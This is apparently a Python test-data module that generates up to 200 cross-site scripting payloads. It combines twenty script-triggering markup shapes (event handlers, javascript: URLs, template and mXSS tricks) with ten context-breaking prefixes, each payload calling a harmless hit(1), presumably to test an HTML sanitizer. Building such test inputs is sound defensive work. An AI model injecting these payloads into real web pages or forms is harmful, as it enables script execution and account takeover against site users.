"""Texts that would run as a script if a page took them for markup: each calls `hit()` then."""

from itertools import islice, product

CALL = "hit(1)"
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<a href=javascript:{}>x</a>",
    "javascript:{}",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "`);{}//",
    "<style>@import 'javascript:{}';</style>",
    "<form><button formaction=javascript:{}>x</button></form>",
)
AROUND = (
    "{}",
    "\"'>{}",
    "' {}",
    "</title>{}",
    "</textarea>{}",
    "`{}`",
    "--> {}",
    "]]>{}",
    "&lt;{}",
    "x\n{}",
)


def every(count: int = 200) -> list[str]:
    """The first `count` of them."""
    return list(islice((around.format(shape.format(CALL)) for around, shape in product(AROUND, SHAPES)), count))
